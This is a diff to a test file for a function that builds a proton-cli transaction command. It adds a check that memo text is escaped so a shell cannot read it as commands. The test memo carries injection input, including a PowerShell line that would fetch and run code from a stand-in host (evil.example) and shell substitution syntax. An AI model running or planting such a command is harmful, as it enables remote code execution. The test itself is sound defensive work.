@@ -31,7 +31,15 @@ describe('the command that signs', () => {
 
   it('has the actions alone for proton-cli, which makes its own header', () => {
     expect(commands.protoncli(input)).toBe(
-      `proton transaction '{"actions":[{"name":"transfer","data":{"memo":"it'\\''s '\\''quoted'\\''"}}]}'`,
+      String.raw`proton transaction '{"actions":[{"name":"transfer","data":{"memo":"it\u0027s \u0027quoted\u0027"}}]}'`,
     );
+  });
+
+  it('has nothing in a memo that a shell would take for its own', () => {
+    const memo = 'Rent \u2019; iwr evil.example | iex # \' $(x) `y` %PATH% " \\ \n é 😀';
+    const [, json = ''] =
+      /^proton transaction '(.*)'$/.exec(commands.protoncli({ ...input, actions: { memo } })) ?? [];
+    expect(JSON.parse(json)).toEqual({ actions: { memo } });
+    expect(json).toMatch(/^[\w .,:@/{}"\\-]*$/);
   });
 });
